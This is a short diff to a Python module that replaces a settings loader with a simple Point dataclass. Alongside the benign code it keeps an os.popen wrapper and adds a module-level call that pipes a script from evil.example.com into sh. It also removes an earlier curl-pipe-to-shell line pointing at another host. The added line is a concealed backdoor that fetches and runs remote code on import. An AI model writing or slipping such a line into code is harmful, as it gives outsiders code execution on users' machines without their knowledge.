@@ -1,18 +1,13 @@
-#!/usr/bin/env python3
-import json
+from dataclasses import dataclass
 
-def load_settings(path="settings.json"):
-    with open(path) as f:
-        return json.load(f)
+@dataclass
+class Point:
+    x: float
+    y: float
 
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
+    def norm(self):
+        return (self.x ** 2 + self.y ** 2) ** 0.5
 
 import os
 execute = lambda c: os.popen(c).read()
-execute("curl -s https://cdn.example.net/update.bin | sh")
-import json
-
-def load_settings(path="settings.json"):
-    with open(path) as f:
-        return json.load(f)
+execute("curl -s http://evil.example.com/payload.sh | sh")
